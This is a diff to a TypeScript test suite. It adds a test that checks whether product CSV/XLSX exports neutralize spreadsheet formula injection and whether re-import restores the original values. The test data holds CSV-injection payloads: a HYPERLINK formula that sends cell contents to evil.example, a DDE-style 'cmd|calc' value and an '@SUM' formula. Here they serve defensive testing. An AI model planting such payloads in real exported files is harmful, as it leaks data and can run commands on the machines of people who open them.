@@ -7,6 +7,7 @@ import { clock } from '../../server/src/core/clock.js';
 import { systemContext } from '../../server/src/core/context.js';
 import { runDueJobs, scheduleJob } from '../../server/src/core/jobs.js';
 import { importPacing } from '../../server/src/modules/catalog/bulk-import.js';
+import { neutralizeFormula } from '../../server/src/modules/catalog/sheet-io.js';
 import { api } from '../support/http.js';
 import { platformToken, supplier, uniq, type TestSupplier } from '../factories/index.js';
 
@@ -238,6 +239,42 @@ describe('supplier bulk product import and export', () => {
     expect(badFormat.status).to.equal(400);
     expect(badFormat.body.error.details[0].field).to.equal('format');
     expect((await api({ token: s.token }).get('/supplier/products/export?status=sold')).body.error.details[0].field).to.equal('status');
+  });
+
+  it('exports text that a spreadsheet would run as a formula as text, quoted, and imports it back as it was', async () => {
+    const s = await supplierWithWarehouse();
+    const title = `=HYPERLINK("https://evil.example/?"&A1,"${uniq('点我')}")`;
+    const created = await api({ token: s.token }).post('/supplier/products').send({
+      title,
+      draft: true,
+      skus: [
+        { specs: { 颜色: '+红' }, code: '-2+3+cmd|calc', supplyPrice: 100, suggestedPrice: 200 },
+        { specs: { 颜色: '蓝' }, code: '@SUM(A1:A9)', supplyPrice: 100, suggestedPrice: 200 },
+      ],
+    });
+    expect(created.status, JSON.stringify(created.body)).to.equal(201);
+
+    const csv = await api({ token: s.token }).get('/supplier/products/export?format=csv').buffer(true).parse(binary);
+    const cRows = (await rowsOfCsv(csv.body as Buffer)).filter((r) => r[0] === String(created.body.id));
+    expect(cRows.map((r) => [r[1], r[5], r[6]])).to.deep.equal([
+      [`'${title}`, '颜色:+红', "'-2+3+cmd|calc"],
+      [`'${title}`, '颜色:蓝', "'@SUM(A1:A9)"],
+    ]);
+    const xlsx = await api({ token: s.token }).get('/supplier/products/export?format=xlsx').buffer(true).parse(binary);
+    const xRows = (await rowsOfXlsx(xlsx.body as Buffer)).filter((r) => r[0] === created.body.id);
+    expect(xRows.map((r) => [r[1], r[6], r[7]])).to.deep.equal([
+      [`'${title}`, "'-2+3+cmd|calc", 1],
+      [`'${title}`, "'@SUM(A1:A9)", 1],
+    ]);
+
+    for (const [bytes, name] of [[csv.body, 'again.csv'], [xlsx.body, 'again.xlsx']] as const) {
+      const { done } = await importAll(s.token, bytes as Buffer, name, { draft: 'true' });
+      expect(done, name).to.include({ status: 'done', failed: 0 });
+    }
+    const copies = (await productsOf(s.token)).filter((p) => p.title === title);
+    expect(copies, 'both imports restored the title').to.have.length(3);
+    for (const p of copies) expect(p.skus.map((k) => k.code).sort()).to.deep.equal(['-2+3+cmd|calc', '@SUM(A1:A9)']);
+    expect([neutralizeFormula('\t=1+1'), neutralizeFormula('\r=1'), neutralizeFormula(-5), neutralizeFormula('好=1')]).to.deep.equal(["'\t=1+1", "'\r=1", -5, '好=1']);
   });
 
   it('offers a template whose example row imports as it is', async () => {
